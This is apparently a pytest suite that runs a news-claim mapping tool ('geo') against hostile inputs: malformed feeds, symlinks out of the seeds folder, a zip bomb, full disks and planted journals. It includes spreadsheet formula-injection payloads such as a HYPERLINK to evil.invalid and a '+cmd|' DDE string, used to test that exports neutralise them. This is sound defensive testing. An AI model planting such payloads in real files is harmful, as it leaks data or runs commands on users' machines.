"""Nothing a user feeds geo stops it: hostile and broken inputs, exports, disk errors, killed runs.

Each case goes to the real command (``python -m geo``) on a temporary folder. What must hold every time: no
traceback, one line naming the file (and line) and what to do, the good articles' claims intact, the right
exit status (1 when something was skipped, 2 when the command cannot do what it was asked). Online answers are
in ``test_hostile_online.py``, killed pools in ``test_hostile_kill.py``.
"""

from __future__ import annotations

import csv
import json
import os
import resource
import sqlite3
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from tests.conftest import write_article

GOOD = ("good.md", "Russia's defence ministry said on Monday its forces had captured Toretsk.", "2025-02-10")
FEED_GOOD = {"title": "Feed", "published": "2024-10-29",
             "text": "Ukrainian troops recaptured Kupiansk on Tuesday."}


def geo(cache_dir: Path, *args: str, cwd: Path,
        limit_file_bytes: int | None = None) -> subprocess.CompletedProcess[str]:
    """Run the real ``geo`` command; with ``limit_file_bytes`` no file it writes may grow beyond that (a full
    disk)."""
    def limit() -> None:
        if limit_file_bytes is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit_file_bytes, limit_file_bytes))

    env = dict(os.environ, GEO_CACHE_DIR=str(cache_dir), COLUMNS="200")
    return subprocess.run([sys.executable, "-m", "geo", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=300, preexec_fn=limit)


def lines(result: subprocess.CompletedProcess[str]) -> list[str]:
    """The lines a run printed on stderr, after checking that none of them is a traceback."""
    assert "Traceback" not in result.stderr and "╭" not in result.stderr, result.stderr
    return result.stderr.splitlines()


def claim_rows(out: Path) -> list[dict[str, str]]:
    with open(out / "claims.csv", encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def good_claims_intact(out: Path) -> None:
    places = {(r["place"], r["controller"]) for r in claim_rows(out)}
    assert ("Toretsk", "RU") in places and ("Kupiansk", "UA") in places, places


def _hostile_seeds(seeds: Path, outside: Path) -> None:
    """Every kind of bad input at once, beside two good articles."""
    write_article(seeds, GOOD[0], GOOD[1], published=GOOD[2], title="Good")
    feed = [json.dumps(FEED_GOOD), "[" * 100_000, '{"text": "x", "n": ' + "9" * 5000 + "}",
            json.dumps({"text": "x" * 6_000_000}),
            (
                '{"title": "\\ud800 lone", "text": "Russian forces entered Selydove \\udc00 on Monday.", '
                '"published": "2024-10-29"}'
            ),
            json.dumps({"title": {"a": 1}, "source": ["list"], "url": 5, "published": 20241029,
                        "text": "Ukrainian troops liberated Kherson."}),
            json.dumps({"text": "Russian troops captured Vuhledar.\u2028It was a long battle.",
                        "published": "2024-10-02"},
                       ensure_ascii=False)]
    (seeds / "feed.jsonl").write_text("\n".join(feed) + "\n", encoding="utf-8")
    (seeds / os.fsdecode(b"caf\xe9.md")).write_bytes(b"---\ntitle: x\n---\nRussian forces captured "
                                                     b"Pokrovsk.\n")
    write_article(seeds, "old.md", "On Friday Russian forces captured Kurakhove.", published="0001-01-01")
    write_article(seeds, "far.md", "Russian forces have held Hirnyk since summer.", published="9999-12-31")
    write_article(seeds, "later.md", "Russian forces captured Ukrainsk.", published="2999-06-01")
    write_article(seeds, "history.md", "On 1 January 1800 Russian forces captured Chasiv Yar.",
                  published="2024-05-01")
    write_article(seeds, "esc\x1b[31mred.md", "Russian forces captured Novohrodivka.\x00 A NUL.",
                  published="sometime")
    os.mkfifo(seeds / "fifo.md")
    (outside / "secret.txt").write_text("root:x:0:0:root:/root:/bin/bash\nRussian forces captured Avdiivka.",
                                        encoding="utf-8")
    os.symlink(outside / "secret.txt", seeds / "secret.txt")
    os.symlink("/dev/zero", seeds / "zero.md")
    (seeds / "places.csv").write_text("name,lat,lon\nFoo,48,37,extra\n!!!,48.0,37.0\n???,48.1,37.1\n"
                                      "Zzyzx,48.2,37.2\nzzyzx,48.3,37.3\n", encoding="utf-8")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory,
            cache_dir: Path) -> tuple[subprocess.CompletedProcess[str], Path]:
    root = tmp_path_factory.mktemp("hostile")
    (root / "seeds").mkdir()
    (root / "outside").mkdir()
    _hostile_seeds(root / "seeds", root / "outside")
    return geo(cache_dir, "run", "--seeds", "seeds", "--out", "out", cwd=root), root


@pytest.mark.parametrize(("case", "expected"), [
    ("a feed line nested 100,000 deep", "seeds/feed.jsonl:2: not a JSON object (nested too deeply)"),
    ("a number of 5,000 digits", "seeds/feed.jsonl:3: not a JSON object (a number too long to read)"),
    ("a feed line of 6 MB", "seeds/feed.jsonl:4: the line is longer than 5,000,000 characters"),
    ("a file name that is not UTF-8", "seeds/caf\\xe9.md: its name is not valid UTF-8; rename the file"),
    ("published in year 1", "seeds/old.md: published 0001-01-01 is outside 1900-"),
    ("published in 9999", "seeds/far.md: published 9999-12-31 is outside 1900-"),
    ("published in 2999", "seeds/later.md: published 2999-06-01 is outside 1900-"),
    ("a places.csv row with more fields than its header", "seeds/places.csv:2: 4 fields for 3 columns"),
    ("a places.csv name with no letters", "seeds/places.csv:3: the name '!!!' has no letters"),
    ("another one, which would have shared its place", "seeds/places.csv:4: the name '???' has no letters"),
    ("a places.csv name given twice", "seeds/places.csv:6: 'zzyzx' is already given on line 5"),
    ("a FIFO named like an article", "seeds/fifo.md: is not a regular file (a pipe, device or socket)"),
    ("a link to a file outside the seeds", "seeds/secret.txt: is a link to a file outside the seeds folder"),
    ("a link to /dev/zero", "seeds/zero.md: is a link to a file outside the seeds folder"),
    ("feed fields that are not text", "seeds/feed.jsonl:6: title is an object, not text; ignored"),
    ("an escape sequence in a file name", "seeds/esc\\x1b[31mred.md"),
])
def test_each_bad_input_is_one_line_naming_it(hostile: tuple[subprocess.CompletedProcess[str], Path],
                                              case: str, expected: str) -> None:
    result, _ = hostile
    said = lines(result)
    assert [line for line in said if expected in line], f"{case}: {expected!r} not in\n{result.stderr}"
    assert "\x1b" not in result.stderr  # no raw escape sequence reaches the terminal


def test_the_good_articles_are_all_read_whatever_else_is_there(
    hostile: tuple[subprocess.CompletedProcess[str], Path]) -> None:
    result, root = hostile
    assert result.returncode == 1  # some were skipped
    # good.md, four feed lines and five other files
    assert lines(result)[-1].startswith("10 new,"), result.stderr
    good_claims_intact(root / "out")
    rows = claim_rows(root / "out")
    places = {r["place"]: r for r in rows}
    assert "Avdiivka" not in places  # the file behind the outside link was never read
    with sqlite3.connect(root / "out" / "geo.sqlite") as con:
        assert not con.execute("SELECT 1 FROM article WHERE text LIKE '%root:x:0%'").fetchall()
    # a lone surrogate is replaced, not a reason to lose the article; a raw U+2028 does not split its line
    assert places["Selydove"]["title"] == "\ufffd lone"
    assert places["Vuhledar"]["event"] == "captured"
    # a NUL byte is dropped, never written
    assert "\x00" not in (root / "out" / "claims.csv").read_text(encoding="utf-8")
    assert places["Novohrodivka"]["controller"] == "RU"
    # a date out of range is neither used as an anchor nor misread
    assert places["Chasiv Yar"]["event_date"] == ""  # "On 1 January 1800" is not 2024-01-01
    assert places["Kurakhove"]["published"] == "" and places["Ukrainsk"]["published"] == ""
    # fields that are not text are ignored, not written as Python reprs
    kherson = places["Kherson"]
    assert (kherson["source"] == "" and kherson["url"] == "" and kherson["published"] == ""
            and "{" not in kherson["title"])


def test_a_second_run_is_the_same_and_reads_nothing_again(hostile: tuple[subprocess.CompletedProcess[str],
                                                                         Path], cache_dir: Path) -> None:
    _, root = hostile
    again = geo(cache_dir, "run", "--seeds", "seeds", "--out", "out", cwd=root)
    assert (again.returncode == 1
            and lines(again)[-1].startswith("0 new, 0 changed, 10 unchanged")), again.stderr
    good_claims_intact(root / "out")


def test_one_sentence_of_400_clauses_is_read_in_pieces(tmp_path: Path, cache_dir: Path) -> None:
    towns = ["Toretsk", "Pokrovsk", "Selydove", "Kurakhove", "Vuhledar", "Avdiivka", "Bakhmut", "Hirnyk"]
    text = " and ".join(f"Russian forces captured {towns[i % len(towns)]}" for i in range(400)) + "."
    (tmp_path / "seeds").mkdir()
    write_article(tmp_path / "seeds", "long.md", text, published="2024-10-10")
    # timed in benchmarks/hostile.py
    result = geo(cache_dir, "run", "--seeds", "seeds", "--out", "out", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert any("seeds/long.md: 1 sentence(s) longer than 800 characters were read in pieces" in line
               for line in lines(result))
    assert {r["place"] for r in claim_rows(tmp_path / "out")} == set(towns)


def _dump_line(*cols: str) -> str:
    return "\t".join(cols)


# Rows in the GeoNames dump format as the real files have them: admin1 "00" (unknown), other feature classes,
# empty fields, CRLF line ends; written for this test. The village is real (Robotyne, Zaporizhzhia Oblast,
# under its GeoNames id, which the shipped places of Ukraine hold at 47.44781, 35.837): an import wins over
# them.
_DUMP = "\r\n".join([
    _dump_line("695586", "Robotyne", "Robotyne", "Rabotino,Роботине", "47.44417", "35.83778", "P", "PPL",
               "UA", "", "26", "2310", "", "", "480", "", "90", "Europe/Zaporozhye", "2024-01-01"),
    _dump_line("99000003", "Kanal", "Kanal", "", "48.0", "33.0", "H", "CNL", "UA", "", "00", "", "", "", "",
               "", "", "Europe/Kyiv", "2024-01-01"),
    _dump_line("99000004", "Khutir Test", "Khutir Test", "", "48.5", "34.5", "P", "PPL", "UA", "", "00", "",
               "", "", "", "", "", "Europe/Kyiv", "2024-01-01"),
]) + "\r\n"


def test_a_dump_with_every_quirk_of_the_real_files_imports_and_runs(tmp_path: Path, cache_dir: Path) -> None:
    archive = tmp_path / "UA.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("readme.txt", "GeoNames readme\n")
        z.writestr("UA.txt", _DUMP)
    cache = tmp_path / "cache"
    imported = geo(cache, "gazetteer", "import", str(archive), cwd=tmp_path)
    assert imported.returncode == 0 and "imported 2 populated places" in imported.stderr, imported.stderr
    (tmp_path / "seeds").mkdir()
    write_article(tmp_path / "seeds", "a.md", "Ukrainian troops liberated Robotyne on Monday.",
                  published="2023-08-28")
    ran = geo(cache, "run", "--seeds", "seeds", "--out", "out", cwd=tmp_path)
    assert ran.returncode == 0, ran.stderr
    [row] = claim_rows(tmp_path / "out")
    assert (row["place_id"], row["location_precision"]) == ("geonames:695586", "exact")
    # the imported point, not the shipped one
    assert (float(row["lat"]), float(row["lon"])) == (47.44417, 35.83778), row


def _bomb(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("UA.txt", b"\n" * 20_000_000)


@pytest.mark.parametrize(("name", "make", "message"), [
    ("UA.zip", lambda p: p.write_bytes((data := (p.parent / "good.zip").read_bytes())[: len(data) // 2]),
     "cannot read"),
    ("notes.txt", lambda p: p.write_text("These are my notes on Robotyne.\n" * 200, encoding="utf-8"),
     "is not a GeoNames dump"),
    ("empty.zip", lambda p: zipfile.ZipFile(p, "w").close(), "the zip holds no GeoNames .txt file"),
    ("bomb.zip", _bomb, "that is no GeoNames file, it is refused"),
])
def test_a_bad_dump_is_refused_in_one_line_and_the_tool_keeps_working(tmp_path: Path, name: str, make: object,
                                                                      message: str) -> None:
    good = tmp_path / "good.zip"
    with zipfile.ZipFile(good, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("UA.txt", _DUMP * 50)
    bad = tmp_path / name
    make(bad)  # type: ignore[operator]
    cache = tmp_path / "cache"
    refused = geo(cache, "gazetteer", "import", str(bad), cwd=tmp_path)
    assert refused.returncode == 2, refused.stderr
    [line] = lines(refused)
    assert line.startswith("error: ") and message in line and name in line, line
    assert not (cache / "imports" / name).exists()
    (tmp_path / "seeds").mkdir()
    write_article(tmp_path / "seeds", "a.md", GOOD[1], published=GOOD[2])
    ran = geo(cache, "run", "--seeds", "seeds", "--out", "out", cwd=tmp_path)
    assert ran.returncode == 0, ran.stderr


@pytest.fixture()
def stored(tmp_path: Path, cache_dir: Path) -> Path:
    """An output folder with a store, from two articles whose texts would be spreadsheet formulas."""
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    write_article(seeds, "a.md", '=HYPERLINK("http://evil.invalid/?"&A1,"Open") Russian forces captured '
                                 "Toretsk on Monday.",
                  published="2025-02-10", title="=HYPERLINK(\"http://evil.invalid/\",\"x\")", source="+cmd|' "
                                                                                                     "/C "
                                                                                                     "calc'!A0",
                  url="@SUM(1+1)")
    write_article(seeds, "b.md", "-2+3 Ukrainian troops recaptured Kupiansk on Tuesday.",
                  published="2024-10-29", title="\uff1dfull-width", source="@Bellingcat")
    result = geo(cache_dir, "run", "--seeds", "seeds", "--out", "out", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    return tmp_path / "out"


def test_no_csv_cell_is_a_formula_a_spreadsheet_would_run(stored: Path, cache_dir: Path) -> None:
    exported = geo(cache_dir, "export", "--format", "csv", "--out", str(stored), "-o", str(stored / "x.csv"),
                   cwd=stored)
    assert exported.returncode == 0, exported.stderr
    places = geo(cache_dir, "export", "--format", "csv", "--layer", "places", "--out", str(stored), "-o",
                 str(stored / "p.csv"), cwd=stored)
    assert places.returncode == 0, places.stderr
    for name in ("claims.csv", "x.csv", "p.csv"):
        with open(stored / name, encoding="utf-8", newline="") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        assert cells, name
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b",
                                                  "\uff0d", "\uff20")], name
    rows = claim_rows(stored)
    assert {r["title"] for r in rows} == {"'=HYPERLINK(\"http://evil.invalid/\",\"x\")", "'\uff1dfull-width"}
    assert {r["source"] for r in rows} == {"'+cmd|' /C calc'!A0", "'@Bellingcat"}
    geojson = json.loads((stored / "claims.geojson").read_text(encoding="utf-8"))
    # GeoJSON keeps the text
    assert {f["properties"]["url"] for f in geojson["features"]} == {"@SUM(1+1)", None}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\uff1d1", "\uff0b1", "\uff0d1",
                                  "\uff20A1"])
def test_a_cell_that_would_start_a_formula_is_quoted(text: str) -> None:
    from geo.outputs.export import cell

    assert cell(text).startswith("'") and cell("Toretsk " + text) == "Toretsk " + text.replace("\r", "\n")
    assert cell(-1.5) == -1.5  # numbers are numbers


def test_export_writes_only_regular_files(stored: Path, cache_dir: Path, tmp_path: Path) -> None:
    def export(target: str) -> subprocess.CompletedProcess[str]:
        return geo(cache_dir, "export", "--format", "geojson", "--out", str(stored), "-o", target,
                   cwd=tmp_path)

    store = stored / "geo.sqlite"
    before = store.read_bytes()
    for target, message in ((str(store), "which geo needs"), ("/dev/null", "not a regular file"),
                            (str(tmp_path), "is a folder")):
        result = export(target)
        assert result.returncode == 2, result.stderr
        [line] = lines(result)
        assert line.startswith("error: ") and message in line, line
    assert store.read_bytes() == before
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    private = tmp_path / "private.geojson"
    private.write_text("old", encoding="utf-8")
    private.chmod(0o600)
    assert export(str(private)).returncode == 0
    assert (stat.S_IMODE(private.stat().st_mode) == 0o600
            and private.read_text(encoding="utf-8").startswith("{"))
    link = tmp_path / "link.geojson"
    os.symlink(private, link)
    assert export(str(link)).returncode == 0
    assert link.is_symlink() and os.readlink(link) == str(private)  # written through: the link stays


def test_os_errors_are_one_line_and_exit_2(tmp_path: Path, cache_dir: Path) -> None:
    (tmp_path / "seeds").mkdir()
    write_article(tmp_path / "seeds", GOOD[0], GOOD[1], published=GOOD[2])
    (tmp_path / "a-file").write_text("x", encoding="utf-8")
    cases = [("run", "--seeds", "seeds", "--out", "a-file"),
             ("run", "--seeds", "seeds", "--out", "/sys/geo-out"),
             ("run", "--seeds", "seeds", "--out", "seeds"), ("add", "seeds/good.md", "--seeds", "a-file")]
    for args in cases:
        result = geo(cache_dir, *args, cwd=tmp_path)
        assert result.returncode == 2, (args, result.stderr)
        [line] = lines(result)
        assert line.startswith("error: "), line


def test_a_too_long_name_in_geo_add_is_skipped_and_the_rest_added(tmp_path: Path, cache_dir: Path) -> None:
    write_article(tmp_path, "ok.md", GOOD[1], published=GOOD[2], title="Ok")
    result = geo(cache_dir, "add", "x" * 300 + ".md", "ok.md", "--seeds", "seeds", cwd=tmp_path)
    assert result.returncode == 1, result.stderr
    said = lines(result)
    assert len(said) == 2 and said[0].startswith("skipped ") and "File name too long" in said[0], said
    assert said[1].startswith("added seeds/") and len(list((tmp_path / "seeds").iterdir())) == 1


def test_a_full_disk_while_writing_the_outputs_is_one_line_and_the_next_run_mends_it(tmp_path: Path,
                                                                                     cache_dir: Path) -> None:
    (tmp_path / "seeds").mkdir()
    write_article(tmp_path / "seeds", GOOD[0], GOOD[1], published=GOOD[2])
    full = geo(cache_dir, "run", "--seeds", "seeds", "--out", "out", cwd=tmp_path, limit_file_bytes=200_000)
    assert full.returncode == 2, full.stderr
    [line] = lines(full)
    assert line.startswith("error: ") and ("File too large" in line or "disk" in line), line
    assert not list((tmp_path / "out").glob(".*.tmp*"))  # nothing half written is left
    mended = geo(cache_dir, "run", "--seeds", "seeds", "--out", "out", cwd=tmp_path)
    assert mended.returncode == 0, mended.stderr
    assert {r["place"] for r in claim_rows(tmp_path / "out")} == {"Toretsk"}


def test_a_run_killed_while_replacing_the_outputs_is_finished_by_the_next(tmp_path: Path) -> None:
    from geo.atomic import JOURNAL, recover

    out = tmp_path / "out"
    out.mkdir()
    # what a run killed between its renames leaves: one output new, one still old, its temporary file, the
    # journal
    (out / "claims.csv").write_text("new claims", encoding="utf-8")
    (out / "places.geojson").write_text("old places", encoding="utf-8")
    (out / ".places.geojson.x1.tmp").write_text("new places", encoding="utf-8")
    (out / JOURNAL).write_text(json.dumps({str(out / ".places.geojson.x1.tmp"): str(out / "places.geojson")}),
                               encoding="utf-8")
    (out / ".map.html.stale.tmp").write_text("half a map", encoding="utf-8")  # a killed write's leftover
    recover(out)
    assert (out / "places.geojson").read_text(encoding="utf-8") == "new places"
    assert not (out / JOURNAL).exists() and not list(out.glob(".*.tmp*"))


def test_a_planted_journal_moves_no_file(tmp_path: Path) -> None:
    from geo.atomic import JOURNAL, recover

    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (elsewhere / "target.txt").write_text("precious", encoding="utf-8")
    (tmp_path / "payload").write_text("evil", encoding="utf-8")
    (out / JOURNAL).write_text(json.dumps({str(tmp_path / "payload"): str(elsewhere / "target.txt")}),
                               encoding="utf-8")
    recover(out)
    assert ((elsewhere / "target.txt").read_text(encoding="utf-8") == "precious"
            and (tmp_path / "payload").exists())


def test_a_places_file_linking_out_of_the_seeds_folder_is_refused(tmp_path: Path, cache_dir: Path) -> None:
    (tmp_path / "seeds").mkdir()
    write_article(tmp_path / "seeds", GOOD[0], GOOD[1], published=GOOD[2])
    (tmp_path / "secret.csv").write_text("name,lat,lon\nToretsk,10,10\n", encoding="utf-8")
    os.symlink(tmp_path / "secret.csv", tmp_path / "seeds" / "places.csv")
    result = geo(cache_dir, "run", "--seeds", "seeds", "--out", "out", cwd=tmp_path)
    assert (result.returncode == 1
            and "places.csv: is a link to a file outside the seeds folder" in result.stderr)
    assert claim_rows(tmp_path / "out")[0]["place_id"] != "user:toretsk"
